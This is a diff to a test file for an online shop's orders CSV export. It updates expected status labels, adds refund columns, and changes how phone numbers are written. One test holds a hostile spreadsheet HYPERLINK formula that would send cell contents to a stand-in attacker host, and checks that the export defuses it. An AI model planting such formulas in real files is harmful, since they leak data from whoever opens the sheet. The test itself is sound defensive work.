@@ -72,7 +72,7 @@ describe('GET /api/orders.csv', () => {
     expect(rows.find((row) => row[0] === formatOrderNumber(fox.number))).toEqual([
       formatOrderNumber(fox.number),
       fox.createdAt.toISOString(),
-      'shipped',
+      'Shipped',
       'Fox Mulder',
       'fox@fbi.example',
       '555-0100',
@@ -93,12 +93,15 @@ describe('GET /api/orders.csv', () => {
       '',
       'no',
       '',
+      // Not refunded: no refund date or amount.
+      '',
+      '',
     ]);
     // An order from before SKUs: none to give.
     expect(rows.find((row) => row[0] === formatOrderNumber(walter.number))).toEqual([
       formatOrderNumber(walter.number),
       walter.createdAt.toISOString(),
-      'unpaid',
+      'Unpaid',
       'Walter Skinner',
       'skinner@fbi.example',
       '555-0100',
@@ -117,8 +120,16 @@ describe('GET /api/orders.csv', () => {
       '',
       'no',
       '',
+      // Not refunded: no refund date or amount.
+      '',
+      '',
     ]);
-    expect(rows.map((row) => row[2])).toEqual(['pending', 'shipped', 'unpaid', 'expired', 'refunded', 'pending', 'pending']);
+    // In the words Manage Orders' filter shows, not the database's ("pending" read as unpaid).
+    expect(rows.map((row) => row[2])).toEqual(['Paid — waiting to ship', 'Shipped', 'Unpaid', 'Expired', 'Refunded', 'Paid — waiting to ship', 'Paid — waiting to ship']);
+    // A refunded order says when, and how much went back: its whole total.
+    const monica = fixtures.get('monica')!;
+    const refunded = rows.find((row) => row[0] === formatOrderNumber(monica.number))!;
+    expect(refunded.slice(-2)).toEqual([monica.refundedAt!.toISOString(), '300.00']);
   });
 
   it('quotes commas, quotes and line breaks, and defuses what a spreadsheet would run as a formula', async () => {
@@ -127,10 +138,11 @@ describe('GET /api/orders.csv', () => {
     expect(row).toEqual([
       formatOrderNumber(hostile.number),
       hostile.createdAt.toISOString(),
-      'pending',
+      'Paid — waiting to ship',
       `'${HOSTILE.name}`,
       'hostile@example.com',
-      `'${HOSTILE.phone}`,
+      // A phone is no formula: written as typed, without a quote that would show in the cell.
+      HOSTILE.phone,
       HOSTILE.address,
       `2 × ${HOSTILE.tool}; 1 × -Minus Tool`,
       '25.68',
@@ -146,9 +158,12 @@ describe('GET /api/orders.csv', () => {
       '',
       'no',
       '',
+      // Not refunded: no refund date or amount.
+      '',
+      '',
     ]);
     // As the bytes go out: each field quoted when it must be, its quotes doubled, the record on one CSV line.
-    expect(res.body).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Click me"")",hostile@example.com,'+1 555 0100,`);
+    expect(res.body).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Click me"")",hostile@example.com,+1 555 0100,`);
     expect(res.body).toContain(`,"Flat 2, ""The Old Mill""\r\nMill Lane, Leeds","2 × @Tool, ""Deluxe""; really; 1 × -Minus Tool",25.68,`);
   });
 
